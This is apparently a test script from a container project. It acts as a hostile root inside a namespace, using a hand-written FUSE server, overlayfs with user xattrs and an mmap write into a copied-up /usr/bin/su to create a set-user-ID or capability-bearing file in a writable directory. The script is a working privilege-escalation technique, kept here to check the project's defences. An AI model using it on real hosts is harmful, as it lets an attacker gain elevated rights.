# SPDX-FileCopyrightText: The unshare.container authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""A hostile root has overlayfs make a file with rights in a writable mapping; run inside, with the directory.

A file capability comes from a file system of its own making (`capability`). A set-user-ID mode comes from one, too
(`fuse`), or from a program of the store, which it then fills with something else through a shared mapping of memory, as
that does not clear the mode (`store`).
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
CONTENT = b"#!/bin/sh\nid -u\n"
NAME = b"program"
INIT, LOOKUP, FORGET, GETATTR, OPEN, READ, STATFS, RELEASE, FLUSH, OPENDIR, BATCH_FORGET, GETXATTR, LISTXATTR = (
    26, 1, 2, 3, 14, 15, 17, 18, 25, 27, 42, 22, 23,
)  # fmt: skip
ENOENT, ENOSYS, ENODATA = 2, 38, 61
CAPABILITY = b"security.capability\0"
CHOWN = struct.pack("<IIIII", 0x2000001, 1, 0, 0, 0)  # capabilities(7), version 2: CAP_CHOWN, permitted and effective
TRICK, WITH_CAPABILITY = sys.argv[2], sys.argv[2] == "capability"


def mount(source: str, target: str, kind: str, data: str) -> None:
    if LIBC.mount(source.encode(), target.encode(), kind.encode(), 0, data.encode()):
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), "mount " + kind)


def attributes(node: int) -> bytes:
    rights = 0o755 if WITH_CAPABILITY else 0o4755
    mode, size = (0o40755, 0) if node == 1 else (0o100000 | rights, len(CONTENT))
    return struct.pack("<6Q10I", node, size, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def answer(operation: int, node: int, body: bytes) -> tuple[int, bytes] | None:
    """Return the answer to a request of the kernel's: errno and data."""
    if operation == INIT:
        return 0, struct.pack("<IIIIHHIIHHI", 7, 31, 65536, 0, 12, 9, 65536, 1, 0, 0, 0) + bytes(28)
    if operation == LOOKUP:
        known = body.rstrip(b"\0") == NAME
        return (0, struct.pack("<QQQQII", 2, 0, 60, 60, 0, 0) + attributes(2)) if known else (ENOENT, b"")
    if operation == GETATTR:
        return 0, struct.pack("<QII", 60, 0, 0) + attributes(node)
    if operation in (OPEN, OPENDIR):
        return 0, struct.pack("<QII", 1, 0, 0)
    if operation == READ:
        _handle, offset, size = struct.unpack_from("<QQI", body)
        return 0, CONTENT[offset : offset + size]
    if operation == STATFS:
        return 0, bytes(80)
    if operation in (GETXATTR, LISTXATTR) and WITH_CAPABILITY:
        room = struct.unpack_from("<I", body)[0]
        value = CAPABILITY if operation == LISTXATTR else CHOWN
        if node == 1 or (operation == GETXATTR and body[8:] != CAPABILITY):
            return ENODATA, b""
        return 0, value if room else struct.pack("<II", len(value), 0)
    if operation in (RELEASE, FLUSH):
        return 0, b""
    return None if operation in (FORGET, BATCH_FORGET) else (ENOSYS, b"")


def serve(device: int) -> None:
    """Serve a file system of one file, until it is unmounted."""
    while True:
        request = os.read(device, 1 << 18)
        _length, operation, unique, node = struct.unpack_from("<IIQQ", request)
        said = answer(operation, node, request[40:])
        if said is not None:
            os.write(device, struct.pack("<IiQ", 16 + len(said[1]), -said[0], unique) + said[1])


def lower_of_fuse() -> str:
    device = os.open("/dev/fuse", os.O_RDWR)
    os.mkdir("/tmp/fuse")
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
    mount("fuse", "/tmp/fuse", "fuse", options)
    if os.fork() == 0:
        try:
            serve(device)
        finally:
            os._exit(0)
    os.close(device)
    return "/tmp/fuse"


def main(directory: str) -> None:
    lower, name = ("/usr/bin", "su") if TRICK == "store" else (lower_of_fuse(), NAME.decode())
    for part in ("upper", "work"):
        os.mkdir(os.path.join(directory, part))
    os.mkdir("/tmp/merged")
    parts = f"upperdir={directory}/upper,workdir={directory}/work"
    mount("overlay", "/tmp/merged", "overlay", f"lowerdir={lower},{parts},userxattr")
    descriptor = os.open(os.path.join("/tmp/merged", name), os.O_RDWR)
    if TRICK == "store":
        with mmap.mmap(descriptor, mmap.PAGESIZE) as memory:
            memory[: len(CONTENT)] = CONTENT
    os.close(descriptor)
    LIBC.umount2(b"/tmp/merged", 2)
    LIBC.umount2(b"/tmp/fuse", 2)


main(sys.argv[1])
